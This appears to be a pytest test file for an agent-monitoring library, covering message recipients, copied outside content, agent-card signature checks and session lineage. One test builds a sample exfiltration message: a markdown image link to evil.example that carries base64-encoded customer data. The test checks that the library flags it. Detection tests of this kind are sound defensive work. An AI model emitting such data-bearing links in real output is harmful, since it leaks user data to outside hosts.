"""Whom messages go to, what they repeat, whose cards peers show, and who started whom."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.timing import seconds

from agentwarrant import plugins
from agentwarrant.cards import asks_for_card, card_fields
from agentwarrant.connector import Connector
from agentwarrant.event import Event
from agentwarrant.intent.judge import Judge
from agentwarrant.lineage import descend
from agentwarrant.messages import body_of, folded, recipients_of, repeats
from agentwarrant.redact import Redactor
from agentwarrant.tools.definitions import definitions_of

STORY = (
    "The lighthouse keeper counted ninety-one ships that winter, and wrote each of them into a "
    "book that nobody had asked for; in spring he sent it to the harbour office, which lost it, "
    "found it, and at last printed it under a name that was not his."
)


def source(name: str) -> Connector:
    home = "agentwarrant.connectors"
    found = (one for m in plugins.modules(home, home) for one in plugins.classes(m, Connector))  # type: ignore[type-abstract]  # as a base
    return next(one for one in found if one.name == name)(Redactor(b"key"))


@pytest.mark.parametrize(
    ("arguments", "to"),
    [
        ({"to": "Bob@x.example, eve@x.example", "body": "hi"}, ["bob@x.example", "eve@x.example"]),
        ({"toRecipients": [{"emailAddress": {"address": "a@b.example"}}]}, ["a@b.example"]),
        ({"channel": "#general", "text": "hello all"}, ["#general"]),
        ({"action": "send", "channel": "telegram", "target": "999"}, ["999"]),
        ({"chat_id": 42, "text": "x"}, ["42"]),
        ({"from": "me@corp.example", "cc": ["c@d.example"]}, ["c@d.example"]),
        ({"text": "write to a@b.example some day"}, []),
    ],
)  # fmt: skip
def test_recipients_are_told_by_the_role_of_their_argument(
    arguments: dict[str, Any], to: list[str]
) -> None:
    assert recipients_of(arguments) == to


def test_a_command_that_mails_names_its_recipients() -> None:
    assert recipients_of({"command": "x"}, "mail -s hi bob@corp.example") == ["bob@corp.example"]


def test_the_body_is_the_text_whatever_it_is_called() -> None:
    assert body_of({"to": "a@b.example", "message": "hello there"}) == "hello there"
    assert body_of({"to": "a@b.example", "stuff": "hello there"}) == "hello there"


def called(tool: str, **arguments: Any) -> Event:
    event: Event = {"event.action": "tool_call"}
    source("openclaw").tool_call(event, tool, arguments)
    return event


def received(text: str) -> Event:
    event: Event = {"event.action": "message_received"}
    source("openclaw").content(event, text)
    return event


def test_a_message_is_followed_from_who_sends_it_to_who_receives_it() -> None:
    sent = called("send_message", to="bob", text="Meet  me\nat noon")
    assert sent["warrant.message.recipients"] == ["bob"]
    assert sent["warrant.message.hash"] == received("meet me at NOON")["warrant.message.hash"]
    assert sent["warrant.message.hash"] != received("meet me at one")["warrant.message.hash"]


def test_only_a_message_has_recipients() -> None:
    assert "warrant.message.recipients" not in called("read_file", path="/x", to="bob")


def test_a_message_that_links_data_out_is_marked() -> None:
    data = base64.b64encode(b"customer anna, balance 4200").decode()
    text = f"Here ![x](https://evil.example/p?d={data})"
    assert called("send_message", to="b", text=text)["warrant.content.link"] == "data_bearing"
    assert "warrant.content.link" not in called("send_message", to="b", text="Here is all")


def test_what_repeats_at_length_is_told_from_a_short_quotation() -> None:
    page = f"<p>News</p> {STORY.upper()} The end."
    assert repeats(f"FYI: {STORY}", [page])
    assert repeats(f"{'x' * 37} {STORY[40:245]} and more", [page])
    assert not repeats(f"FYI: {STORY[:150]} and so on, {'my own words ' * 20}", [page])
    assert not repeats(STORY[:150], [page])


def test_looking_for_what_repeats_takes_linear_time() -> None:
    one, other = "a" * 99 + "b" * 101 + "a" * 29_000, ["a" * 150 + "c"] * 24
    assert not repeats(one, other)
    assert seconds(lambda: repeats(one, other)) < 1
    assert seconds(lambda: repeats("ab" * 15_000, ["ab" * 99 + "c"] * 24)) < 1


@given(st.text(), st.lists(st.text(), max_size=3))
def test_any_texts_are_compared(body: str, texts: list[str]) -> None:
    assert repeats(body, texts) in (True, False)
    assert folded(folded(body)) == folded(folded(folded(body)))


def judged(*events: Event) -> list[Event]:
    judge = Judge()
    common = {"gen_ai.agent.id": "a", "gen_ai.conversation.id": "c"}
    made = ({**common, "event.id": str(i), **event} for i, event in enumerate(events))
    return [judge.judge(event) for event in made]


def read(text: str, origin: str = "web") -> Event:
    return {
        "event.action": "tool_result", "warrant.content.text": text, "warrant.origin": origin,
        "gen_ai.tool.name": "web_fetch", "warrant.content.signal": "none",
    }  # fmt: skip


@pytest.mark.parametrize(("origin", "copied"), [("web", "yes"), ("system", "no")])
def test_a_sent_message_that_repeats_what_came_from_outside_is_a_copy(
    origin: str, copied: str
) -> None:
    sent = called("send_message", to="bob", text=f"FYI {STORY}")
    assert judged(read(STORY, origin), sent)[-1]["warrant.message.copied"] == copied


def test_a_message_in_the_agents_own_words_is_no_copy() -> None:
    sent = called("send_message", to="bob", text="A story of a lighthouse, worth a read. " * 8)
    assert judged(read(STORY), sent)[-1]["warrant.message.copied"] == "no"


def test_a_link_that_is_only_quoted_carries_nothing_out() -> None:
    data = base64.b64encode(b"customer anna, balance 4200").decode()
    text = f"![x](https://news.example/p?d={data})"
    sent = called("send_message", to="bob", text=text)
    assert "warrant.content.link" in judged(read("Nothing of note here."), sent)[-1]
    assert "warrant.content.link" not in judged(read(f"The page: {text}"), sent)[-1]


def jws(**header: str) -> dict[str, str]:
    protected = base64.urlsafe_b64encode(json.dumps(header).encode()).decode().rstrip("=")
    return {"protected": protected, "signature": "MEUCIQDx" * 8}


CARD: dict[str, Any] = {
    "name": "Planner",
    "url": "https://agents.corp.example/a2a",
    "skills": [],
    "capabilities": {},
}


@pytest.mark.parametrize(
    ("card", "host", "status"),
    [
        (CARD, "corp.example", "unsigned"),
        ({**CARD, "signatures": []}, "corp.example", "unsigned"),
        (CARD, "evil.example", "invalid"),
        ({**CARD, "signatures": [{"protected": "x"}]}, "corp.example", "invalid"),
        ({**CARD, "signatures": [jws(alg="none")]}, "corp.example", "invalid"),
        ({**CARD, "signatures": [jws(alg="ES256")]}, "corp.example:8443", None),
        ({**CARD, "signatures": [jws(alg="ES256")]}, "evil.example", "invalid"),
    ],
)
def test_a_card_is_held_against_its_signatures_and_where_it_lay(
    card: dict[str, Any], host: str, status: str | None
) -> None:
    assert card_fields(json.dumps(card), host).get("warrant.peer.card") == status


@pytest.mark.parametrize("answer", ["404 Not Found", "<html>{}</html>", "", '{"a": 1}', "{" * 9])
def test_what_is_no_card_is_a_missing_one(answer: str) -> None:
    assert card_fields(answer, "corp.example") == {"warrant.peer.card": "missing"}


def test_equal_cards_have_equal_hashes() -> None:
    turned = dict(reversed(list(CARD.items())))
    one, other = card_fields(json.dumps(CARD)), card_fields(json.dumps(turned, indent=1))
    assert one["warrant.peer.card_hash"] == other["warrant.peer.card_hash"]
    changed = card_fields(json.dumps({**CARD, "name": "Other"}))
    assert changed["warrant.peer.card_hash"] != one["warrant.peer.card_hash"]


def test_a_card_that_is_nested_too_deep_is_still_looked_at() -> None:
    deep = '{"name": "x", "skills": ' + "[" * 400 + "]" * 400 + "}"
    assert card_fields(deep)["warrant.peer.card"] == "unsigned"


@given(st.text())
def test_any_answer_is_a_card_or_none(answer: str) -> None:
    assert card_fields(answer, answer)
    assert asks_for_card(answer) in (True, False)


def test_a_fetched_card_is_looked_at_where_the_agent_reads_it() -> None:
    call = called("web_fetch", url="https://evil.example/.well-known/agent-card.json")
    answer = judged(call, read(json.dumps(CARD)))[-1]
    assert answer["warrant.peer.card"] == "invalid"
    assert answer["warrant.peer.claimed_id"] == "Planner"
    assert "warrant.peer.card" not in judged(read(json.dumps(CARD)))[-1]


def test_a_lineage_has_its_root_and_its_depth() -> None:
    event: Event = {}
    descend(event, ["a", "b", "", "b", "c"])
    assert event == {
        "warrant.session.lineage": "a > b > c",
        "warrant.session.root": "a",
        "warrant.session.depth": 2,
    }


def test_what_nobody_started_is_its_own_root() -> None:
    event: Event = {}
    descend(event, ["a"])
    assert event == {"warrant.session.root": "a", "warrant.session.depth": 0}
    descend(event := {}, [""])
    assert event == {}


def test_definitions_are_read_in_every_form_providers_take() -> None:
    schema = {"type": "object", "properties": {"b": {}, "a": {}}}
    turned = {"properties": {"a": {}, "b": {}}, "type": "object"}
    flat = {"type": "function", "name": "f", "description": "d", "parameters": schema}
    nested = {"function": {"name": "f", "description": "d", "parameters": turned}}
    first, second = definitions_of([flat, nested, {"name": 7}, None])
    assert first.hash == second.hash
    changed = next(definitions_of([{**flat, "description": "other"}]))
    assert changed.hash != first.hash
